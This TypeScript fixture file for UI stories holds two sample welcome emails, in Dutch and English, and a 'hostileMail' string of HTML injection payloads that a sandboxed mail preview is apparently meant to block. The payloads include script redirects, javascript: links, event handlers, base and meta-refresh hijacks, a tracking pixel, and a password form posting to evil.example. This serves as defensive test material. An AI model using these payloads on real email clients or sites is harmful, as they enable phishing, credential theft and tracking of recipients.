import { light } from '../../tokens/themes.ts';

/** A mail rendered from a template, in both languages; for stories. */
export const sampleMail = {
  nl: `<div style="font-family:Georgia,serif">
<h1 style="font-size:22px">Welkom aan boord</h1>
<p>Dag Tess,</p>
<p>De gids van 13 pagina’s zit bij deze mail. Als digital nomad heb je het meest aan hoofdstuk 7 en 8.</p>
<p><a href="https://fnc.example/contact" style="display:inline-block;padding:10px 18px;border-radius:8px;background:${light.strong};color:${light.onStrong};text-decoration:none">Plan je intake</a></p>
<hr><p style="font-size:13px">Je vroeg deze gids aan op fnc.example. <a href="https://fnc.example/uit">Afmelden</a></p>
</div>`,
  en: `<div style="font-family:Georgia,serif">
<h1 style="font-size:22px">Welcome aboard</h1>
<p>Hello Tess,</p>
<p>The guide of 13 pages is attached. As a digital nomad you will get most from chapters 7 and 8.</p>
<p><a href="https://fnc.example/contact" style="display:inline-block;padding:10px 18px;border-radius:8px;background:${light.strong};color:${light.onStrong};text-decoration:none">Book your intake</a></p>
<hr><p style="font-size:13px">You asked for this guide on fnc.example. <a href="https://fnc.example/uit">Unsubscribe</a></p>
</div>`,
} as const;

/** Attacks in a template: scripts, requests, links and forms, all of which must be blocked. */
export const hostileMail = `<!doctype html><html><head>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import 'https://evil.example/y.css'; p { color: inherit }</style>
</head><body onload="parent.mailRan = true">
<script>parent.mailRan = true; top.location = 'https://evil.example'</script>
<p onclick="parent.mailRan = true">1 <a href="javascript:parent.mailRan=true" target="_top">javascript</a></p>
<p>2 <a href="https://evil.example" target="_parent">evil.example</a></p>
<img src="https://evil.example/pixel.gif" onerror="parent.mailRan = true" alt="pixel">
<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>
<form action="https://evil.example"><input name="password" aria-label="x"><button>3</button></form>
<svg width="20" height="20"><a href="javascript:parent.mailRan=true"><circle cx="10" cy="10" r="8"></circle><set attributeName="href" to="javascript:parent.mailRan=true"></set></a></svg>
<div style="background: url('https://evil.example/z.gif')">4</div>
</body></html>`;
